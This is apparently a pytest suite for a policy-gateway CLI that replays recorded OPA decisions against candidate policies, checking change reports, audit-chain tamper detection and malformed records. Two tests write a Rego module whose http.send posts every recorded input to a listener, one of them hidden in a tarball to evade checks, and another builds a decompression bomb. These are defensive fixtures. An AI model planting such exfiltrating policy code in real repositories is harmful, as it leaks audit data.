"""`pvegate policy replay` on decisions recorded from live calls through the real gateway.

A few hundred calls (varied principals and tools) are recorded by a gateway running a copy of
the shipped policies; then a candidate changes the data (an incident waiver for operators) or
the Rego (a new deny rule), and the replay report must list exactly the decisions that change.
The expected set is computed without the replay code: each recorded input is put to a
separately started candidate OPA one request at a time, and its answer is read by the
contract's rules written out here; the known principals and tools bound it from the other side.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.cli import main
from gateway.core.canonical import digest_json
from gateway.dev.client import mcp_client
from gateway.dev.devenv import DevEnv, make_env
from gateway.policy.opa_sidecar import REPO_ROOT, OPASidecar
from gateway.store.audit import unpack_input, verify
from gateway.store.replay import Candidate, ReplayError
from tests.support import GatewayThread, free_port

# principal -> (roles, groups, kind)
PRINCIPALS: dict[str, tuple[list[str], list[str], str]] = {
    "rp-ops-a": (["operator"], [], "agent"),
    "rp-ops-b": (["operator"], [], "agent"),
    "rp-viewer": (["viewer"], [], "agent"),
    "rp-web": ([], ["team-web"], "agent"),
    "rp-admin": ([], ["pve-admins"], "human"),
    "rp-auditor": (["auditor"], [], "service"),
}
CALLS: list[tuple[str, dict[str, Any]]] = [
    ("list_nodes", {}),
    ("get_guest_status", {"vmid": 100}),
    ("get_guest_status", {"vmid": 103}),
    ("vm_reboot", {"vmid": 100}),
    ("vm_reboot", {"vmid": 103}),
    ("lxc_reboot", {"vmid": 201}),
    ("snapshot_create", {"vmid": 103, "snapname": "rp"}),
    ("get_node_network", {"node": "pve1"}),
]
# the test tree's approval rule: rebooting prod guests needs an approval (whatever the hour)
PROD_POWER_RULE = """    - name: prod-power-needs-approval
      tools: [vm_reboot, lxc_reboot]
      target_tags: [prod]
      reason: rebooting a production guest needs an approval
"""


def _tree(dst: Path) -> Path:
    shutil.copytree(REPO_ROOT / "policies", dst)
    data = dst / "data" / "data.yaml"
    text = data.read_text()
    assert "  rules:\n" in text and "      active: false\n" in text
    data.write_text(text.replace("  rules:\n", "  rules:\n" + PROD_POWER_RULE, 1))
    return dst


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[DevEnv, Path]]:
    from gateway.sim.harness import start_simulator

    work = tmp_path_factory.mktemp("replay")
    sim = start_simulator("small", work / "sim")
    tree = _tree(work / "baseline")
    env = make_env(work / "gw", {"default": sim}, port=free_port(), opa={"policies": [str(tree)]})
    gw = GatewayThread(env.config).start()
    try:
        import asyncio

        asyncio.run(_record(env))
    finally:
        gw.stop()
        sim.stop()
    yield env, tree


async def _record(env: DevEnv) -> None:
    url = f"https://127.0.0.1:{env.config.port}/mcp"
    for sub, (roles, groups, kind) in PRINCIPALS.items():
        token = env.token(sub, roles, groups=groups, kind=kind)
        async with mcp_client(url, token, env.ca_file) as client:
            for _ in range(6):  # 6 principals x 6 rounds x 8 calls = 288 calls (quotas kick in too)
                for tool, args in CALLS:
                    await client.call_tool(tool, args)


def _decisions(db: Path) -> list[dict[str, Any]]:
    con = sqlite3.connect(db)
    con.row_factory = sqlite3.Row
    try:
        sql = "SELECT * FROM audit WHERE kind = 'decision' AND principal LIKE 'rp-%' ORDER BY seq"
        return [dict(r) for r in con.execute(sql)]
    finally:
        con.close()


def _outcome(result: dict[str, Any]) -> str:
    """The contract's reading of a decision document (docs/policy-contract.md), written out independently."""
    appr = result.get("approval") or {}
    unmet = bool(appr.get("required")) and not appr.get("satisfied")
    if result["allow"] and not result["deny"] and not unmet:
        return "allow"
    return "approval" if not result["deny"] and unmet else "deny"


def _expected(rows: list[dict[str, Any]], candidate: Path) -> dict[str, set[str]]:
    """request_id -> change kinds, asking a separate candidate OPA one recorded input at a time."""
    recorded_as = {"allow": "allow", "pending": "approval", "deny": "deny"}
    opa = OPASidecar(policies=(candidate,))
    opa.start()
    out: dict[str, set[str]] = {}
    try:
        with opa.client(timeout=30) as c:
            for row in rows:
                body = json.loads(row["body"])
                doc = unpack_input(body)
                assert doc is not None
                result = c.post("/v1/data/pvegate/decision", json={"input": doc}).json()["result"]
                kinds = set()
                before = recorded_as[row["outcome"]]
                if _outcome(result) != before:
                    kinds.add(f"{before}-to-{_outcome(result)}")
                if result["risk"]["level"] != body["risk"]["level"]:
                    kinds.add("risk")
                if result["obligations"] != body["obligations"]:
                    kinds.add("obligations")
                if kinds:
                    out[row["request_id"]] = kinds
    finally:
        opa.stop()
    return out


def _replay(env: DevEnv, candidate: Path, tmp_path: Path, *extra: str) -> tuple[int, dict[str, Any]]:
    out = tmp_path / "report.json"
    db = str(env.config.audit_path)
    args = ["policy", "replay", "--db", db, "--principal", "rp-*", "--policies", str(candidate), "--format", "json"]
    rc = main([*args, "-o", str(out), *extra])
    return rc, json.loads(out.read_text())


def test_decisions_keep_their_complete_input(recorded: tuple[DevEnv, Path]) -> None:
    env, _ = recorded
    rows = _decisions(env.config.audit_path)
    assert len(rows) >= 250
    assert {r["principal"] for r in rows} == set(PRINCIPALS)
    assert {r["outcome"] for r in rows} == {"allow", "pending", "deny"}
    for row in rows:
        body = json.loads(row["body"])
        doc = unpack_input(body)
        assert doc is not None and body["input_redacted"] == []
        # the kept input is the very document OPA decided on: its digest is the recorded one
        assert digest_json(doc) == body["input_digest"]
        assert (
            doc["principal"]["sub"] == row["principal"] and doc["principal"]["kind"] == PRINCIPALS[row["principal"]][2]
        )
        assert set(doc["usage"]) == {"all", "tool"}
    assert verify(env.config.audit_path).ok  # the packed inputs are inside the hash chain


def test_replay_lists_exactly_what_an_incident_waiver_changes(recorded: tuple[DevEnv, Path], tmp_path: Path) -> None:
    env, tree = recorded
    cand = tmp_path / "candidate"
    shutil.copytree(tree, cand)
    data = cand / "data" / "data.yaml"
    data.write_text(data.read_text().replace("      active: false\n", "      active: true\n", 1))
    rows = _decisions(env.config.audit_path)
    expected = _expected(rows, cand)
    # from the principals' side: only operators' held calls change, and some do
    assert expected
    ops = {r["request_id"] for r in rows if r["principal"].startswith("rp-ops-")}
    pending = {r["request_id"] for r in rows if r["outcome"] == "pending"}
    assert set(expected) <= ops & pending
    assert all(k <= {"approval-to-allow", "approval-to-deny"} for k in expected.values())

    rc, report = _replay(env, cand, tmp_path, "--fail-on", "approval-waived")
    got = {c["request_id"]: set(c["kinds"]) for c in report["changes"]}
    assert got == expected
    assert report["replayed"] == len(rows)
    assert report["skipped"] == {"no_input": 0, "garbled": 0, "unknown_outcome": 0, "failed_closed": 0}
    assert rc == 1 and report["failed"] and report["failing"] == len(expected)
    assert {(g["tool"], g["principal"]) for g in report["groups"]} == {
        (c["tool"], c["principal"]) for c in report["changes"]
    }
    assert sum(g["count"] for g in report["groups"]) == len(expected)
    # the CI gate on allow<->deny passes: the waiver opens no denied call and closes no allowed one
    rc, _ = _replay(env, cand, tmp_path, "--fail-on", "allow-to-deny,deny-to-allow")
    assert rc == 0


def test_replay_lists_exactly_what_a_rego_change_changes(recorded: tuple[DevEnv, Path], tmp_path: Path) -> None:
    env, tree = recorded
    cand = tmp_path / "candidate"
    shutil.copytree(tree, cand)
    rego = cand / "pvegate" / "guardrails" / "guardrails.rego"
    rego.write_text(
        rego.read_text()
        + '\ndenials contains lib.reason("guardrail.status_reads", "test", "agents may not read guest status") if {\n'
        + '\tinput.principal.kind == "agent"\n\tinput.tool.name == "get_guest_status"\n}\n'
    )
    rows = _decisions(env.config.audit_path)
    expected = _expected(rows, cand)
    agents_reading = {
        r["request_id"]
        for r in rows
        if r["tool"] == "get_guest_status" and PRINCIPALS[r["principal"]][2] == "agent" and r["outcome"] != "deny"
    }
    assert agents_reading and set(expected) == agents_reading
    rc, report = _replay(env, cand, tmp_path, "--fail-on", "allow-to-deny")
    assert {c["request_id"]: set(c["kinds"]) for c in report["changes"]} == expected
    assert rc == 1 and all("guardrail.status_reads" in c["after"]["deny_codes"] for c in report["changes"])
    # the Markdown and text reports carry the same groups
    md = tmp_path / "report.md"
    db = str(env.config.audit_path)
    main(["policy", "replay", "--db", db, "--principal", "rp-*", "--policies", str(cand), "--format", "markdown",
          "-o", str(md)])  # fmt: skip
    text = md.read_text()
    assert "| `get_guest_status` | `rp-ops-a` |" in text and "allow-to-deny" in text


def test_unchanged_candidate_changes_nothing(recorded: tuple[DevEnv, Path], tmp_path: Path) -> None:
    env, tree = recorded
    rc, report = _replay(env, tree, tmp_path, "--fail-on", "any", "--engine", "eval")
    assert rc == 0 and report["changed"] == 0 and report["replayed"] >= 250


def test_a_verification_key_without_a_bundle_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The candidate would be the unverified policy directory: refused before anything is read."""
    args = ["policy", "replay", "--db", str(tmp_path / "none.db"), "--policies", str(REPO_ROOT / "policies")]
    with pytest.raises(SystemExit) as exit_:
        main([*args, "--verification-key", str(tmp_path / "k.pem")])
    assert exit_.value.code == 2
    out, err = capsys.readouterr()
    assert not out and "error: --verification-key needs --bundle" in err
    with pytest.raises(ReplayError, match="needs a bundle"):  # and the library refuses it as well
        Candidate(policies=(REPO_ROOT / "policies",), verification_key=tmp_path / "k.pem")


# --- the audit's integrity, a candidate without network, unreadable records --------------------------


def _copy_audit(env: DevEnv, tmp_path: Path) -> Path:
    """The recorded audit and its head key, copied so a test may damage them."""
    src = env.config.audit_path
    con = sqlite3.connect(src)
    try:
        con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    finally:
        con.close()
    dst = tmp_path / "audit" / "audit.db"
    dst.parent.mkdir()
    shutil.copy(src, dst)
    shutil.copy(env.config.audit_key_path, dst.parent / "audit-head.key")
    return dst


def _run_replay(db: Path, candidate: Path, tmp_path: Path, *extra: str) -> tuple[int, dict[str, Any] | None]:
    out = tmp_path / "report.json"
    out.unlink(missing_ok=True)
    args = ["policy", "replay", "--db", str(db), "--principal", "rp-*", "--policies", str(candidate)]
    rc = main([*args, "--format", "json", "-o", str(out), *extra])
    return rc, json.loads(out.read_text()) if out.exists() else None


def test_replay_refuses_a_tampered_audit(
    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A deleted denial would pass a deny-to-allow gate unseen: the chain is verified first (exit 2)."""
    env, tree = recorded
    db = _copy_audit(env, tmp_path)
    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "any")
    assert rc == 0 and report is not None
    assert report["verified"] is True and report["integrity"].startswith("audit verified: records 1..")
    denied = [r for r in _decisions(db) if r["outcome"] == "deny"]
    assert denied
    gone = denied[len(denied) // 2]["seq"]
    con = sqlite3.connect(db)
    with con:
        con.execute("DELETE FROM audit WHERE seq = ?", (gone,))
    con.close()
    capsys.readouterr()
    # the candidate denies nothing more: without the check this gate passes on the shortened audit
    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "deny-to-allow")
    out, err = capsys.readouterr()
    assert rc == 2 and report is None
    assert f"record {gone} is missing (deleted)" in err and "audit verify" in err
    assert "Traceback" not in out + err
    # --no-verify replays it and says so, in every format
    rc, report = _run_replay(db, tree, tmp_path, "--fail-on", "deny-to-allow", "--no-verify")
    assert rc == 0 and report is not None
    assert report["verified"] is False and "audit NOT verified" in report["integrity"]
    args = ["policy", "replay", "--db", str(db), "--principal", "rp-*", "--policies", str(tree), "--no-verify"]
    capsys.readouterr()
    assert main([*args, "--engine", "eval"]) == 0
    assert "audit NOT verified" in capsys.readouterr().out
    md = tmp_path / "r.md"
    assert main([*args, "--engine", "eval", "--format", "markdown", "-o", str(md)]) == 0
    assert "audit NOT verified" in md.read_text() and "audit NOT verified" in capsys.readouterr().out


def test_a_wrong_head_key_is_a_verification_failure(
    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    env, tree = recorded
    db = _copy_audit(env, tmp_path)
    rc, report = _run_replay(db, tree, tmp_path, "--key", str(tmp_path / "absent.key"), "--engine", "eval")
    err = capsys.readouterr().err
    assert rc == 2 and report is None and "audit NOT verified" not in err
    assert "error: the audit does not verify" in err and "absent.key" in err


class _Listener:
    """A local HTTP listener counting every request that reaches it."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.requests: list[bytes] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                outer.requests.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST

            def log_message(self, *args: Any) -> None:
                return None

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.parametrize("engine", ["server", "eval"])
def test_a_candidate_gets_no_network(
    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """A candidate under review must not carry the recorded inputs anywhere: http.send does not compile."""
    env, tree = recorded
    listener = _Listener()
    try:
        cand = tmp_path / "candidate"
        shutil.copytree(tree, cand)
        (cand / "pvegate" / "leak.rego").write_text(
            "package pvegate.leak\n\n"
            f'sent := http.send({{"method": "POST", "url": "http://127.0.0.1:{listener.port}/leak", '
            '"body": input, "raise_error": false})\n'
        )
        rego = cand / "pvegate" / "guardrails" / "guardrails.rego"
        rego.write_text(
            rego.read_text()
            + '\ndenials contains lib.reason("guardrail.leak", "test", "leak") if {\n'
            + "\tdata.pvegate.leak.sent.status_code == 999\n}\n"
        )
        rc, report = _run_replay(env.config.audit_path, cand, tmp_path, "--engine", engine)
        out, err = capsys.readouterr()
    finally:
        listener.close()
    assert listener.requests == []
    assert rc == 2 and report is None and "Traceback" not in out + err
    assert "http.send" in err and "without network access" in err


def test_unreadable_records_are_counted_apart(
    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Garbled inputs (or a bomb that inflates past the limit) are a warning, not "written before inputs were kept"."""
    import base64
    import zlib

    env, tree = recorded
    db = _copy_audit(env, tmp_path)
    rows = _decisions(db)
    bomb = base64.b64encode(zlib.compress(b"[" + b"0," * (1 << 20) + b"0]")).decode()
    damaged = {
        rows[0]["seq"]: lambda body: {**body, "input_z": "not base64!"},
        rows[1]["seq"]: lambda body: {**body, "input_z": bomb},
        rows[2]["seq"]: lambda body: {k: v for k, v in body.items() if k != "input_z"},  # an older record
        rows[3]["seq"]: None,  # a body that is not JSON at all
    }
    con = sqlite3.connect(db)
    with con:
        for row in rows[:4]:
            change = damaged[row["seq"]]
            body = "{garbled" if change is None else json.dumps(change(json.loads(row["body"])))
            con.execute("UPDATE audit SET body = ? WHERE seq = ?", (body, row["seq"]))
        con.execute("UPDATE audit SET outcome = 'maybe' WHERE seq = ?", (rows[4]["seq"],))
    con.close()
    capsys.readouterr()
    rc, report = _run_replay(db, tree, tmp_path, "--no-verify", "--engine", "eval")
    out, err = capsys.readouterr()
    assert rc == 0 and report is not None, err
    assert report["skipped"] == {"no_input": 1, "garbled": 3, "unknown_outcome": 1, "failed_closed": 0}
    assert report["replayed"] == len(rows) - 5 and report["changed"] == 0
    assert "warning: 3 decision record(s) have a garbled input or body" in out
    # the same records from an export file
    export = tmp_path / "decisions.jsonl"
    from gateway.store.audit import export_line

    lines = []
    con = sqlite3.connect(db)
    con.row_factory = sqlite3.Row
    for r in con.execute("SELECT * FROM audit WHERE kind = 'decision' AND principal LIKE 'rp-%' ORDER BY seq"):
        row = dict(r)
        if row["seq"] == rows[3]["seq"]:
            continue  # an export cannot hold a body that is not JSON
        lines.append(export_line(row))
    con.close()
    export.write_text("\n".join(lines) + "\n")
    out_file = tmp_path / "export.json"
    args = ["policy", "replay", "--export", str(export), "--principal", "rp-*", "--policies", str(tree)]
    rc = main([*args, "--engine", "eval", "--format", "json", "-o", str(out_file)])
    doc = json.loads(out_file.read_text())
    assert rc == 0 and doc["skipped"] == {"no_input": 1, "garbled": 2, "unknown_outcome": 1, "failed_closed": 0}
    assert doc["verified"] is False and doc["integrity"] == "input: an export, not verified"
    assert "input: an export, not verified" in capsys.readouterr().out


def test_a_file_that_is_no_audit_is_an_error_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "audit.db"
    bad.write_bytes(b"this is not a database" * 100)
    args = ["policy", "replay", "--db", str(bad), "--policies", str(REPO_ROOT / "policies"), "--engine", "eval"]
    for extra in ([], ["--no-verify"]):
        assert main([*args, *extra]) == 2
        out, err = capsys.readouterr()
        assert "error:" in err and "Traceback" not in out + err
    export = tmp_path / "e.jsonl"
    export.write_text('{"kind": "decision", "ts": 1, "body": "{garbled"}\n')
    args = ["policy", "replay", "--export", str(export), "--policies", str(REPO_ROOT / "policies")]
    assert main(args) == 2  # nothing replayed: an error, not a passing report
    assert "garbled 1" in capsys.readouterr().err
    assert main([*args, "--allow-empty"]) == 0
    assert "garbled" in capsys.readouterr().out


def test_records_changed_after_the_verification_are_not_replayed(recorded: tuple[DevEnv, Path], tmp_path: Path) -> None:
    """The replay reads its own snapshot: it must hold the chain `verify` checked, up to the same head."""
    from gateway.store.replay import Filters, Skipped, read_audit

    env, _ = recorded
    db = _copy_audit(env, tmp_path)
    result = verify(db)
    assert result.ok and result.last_seq is not None
    assert len(list(read_audit(db, Filters(), Skipped(), verified=result))) >= 250
    con = sqlite3.connect(db)
    with con:
        con.execute("DELETE FROM audit WHERE seq = ?", (result.last_seq // 2,))
    con.close()
    with pytest.raises(ReplayError, match=f"changed after it was verified: record {result.last_seq // 2} is missing"):
        list(read_audit(db, Filters(), Skipped(), verified=result))


@pytest.mark.parametrize("packed", [True, False])
def test_a_candidate_bundle_with_wasm_is_refused(tmp_path: Path, packed: bool) -> None:
    """OPA evaluates a bundle's Wasm entrypoints instead of its Rego, and `opa check` cannot see
    what a compiled module calls (http.send included): a replay does not run one."""
    import io
    import tarfile

    files = {
        ".manifest": json.dumps(
            {"revision": "w", "wasm": [{"entrypoint": "pvegate/decision", "module": "/policy.wasm"}]}
        ),
        "pvegate/decision.rego": "package pvegate\n\ndecision := {}\n",
        "policy.wasm": "\0asm\1\0\0\0",
    }
    if packed:
        bundle = tmp_path / "candidate.tar.gz"
        with tarfile.open(bundle, "w:gz") as tar:
            for name, text in files.items():
                info = tarfile.TarInfo(f"/{name}")
                info.size = len(text.encode())
                tar.addfile(info, io.BytesIO(text.encode()))
    else:
        bundle = tmp_path / "candidate"
        for name, text in files.items():
            (bundle / name).parent.mkdir(parents=True, exist_ok=True)
            (bundle / name).write_text(text)
    with pytest.raises(ReplayError, match=r"carries Wasm modules \(policy.wasm\)"):
        Candidate(bundle=bundle).check_offline(tmp_path / "unused-capabilities.json")


def test_a_bundle_hidden_in_the_candidate_directory_gets_no_network(
    recorded: tuple[DevEnv, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found in review: `opa run` loads a `.tar.gz` inside a policy directory as a bundle, and `opa
    check` (the network ban) never sees its Rego; with the candidate's optimised build made to fail,
    the sidecar fell back to the plain directory, tarball included, and http.send carried every
    recorded input to a listener. Replay now runs exactly the Rego and data files it checked."""
    import io
    import tarfile

    env, tree = recorded
    listener = _Listener()
    try:
        cand = tmp_path / "candidate"
        shutil.copytree(tree, cand)
        leak = (
            "package pvegate.leak\n\n"
            f'sent := http.send({{"method": "POST", "url": "http://127.0.0.1:{listener.port}/leak", '
            '"body": input, "raise_error": false})\n'
        ).encode()
        with tarfile.open(cand / "pvegate" / "extra.tar.gz", "w:gz") as tar:
            info = tarfile.TarInfo("leak.rego")
            info.size = len(leak)
            tar.addfile(info, io.BytesIO(leak))
        rego = cand / "pvegate" / "guardrails" / "guardrails.rego"
        rego.write_text(
            rego.read_text()
            + '\ndenials contains lib.reason("guardrail.leak", "test", "leak") if {\n'
            + "\tdata.pvegate.leak.sent.status_code == 999\n}\n"
        )
        shutil.rmtree(cand / "system")  # the optimised build then fails: the plain directory is loaded
        _run_replay(env.config.audit_path, cand, tmp_path, "--engine", "server")
        capsys.readouterr()
    finally:
        listener.close()
    assert listener.requests == [], "recorded inputs left the host"
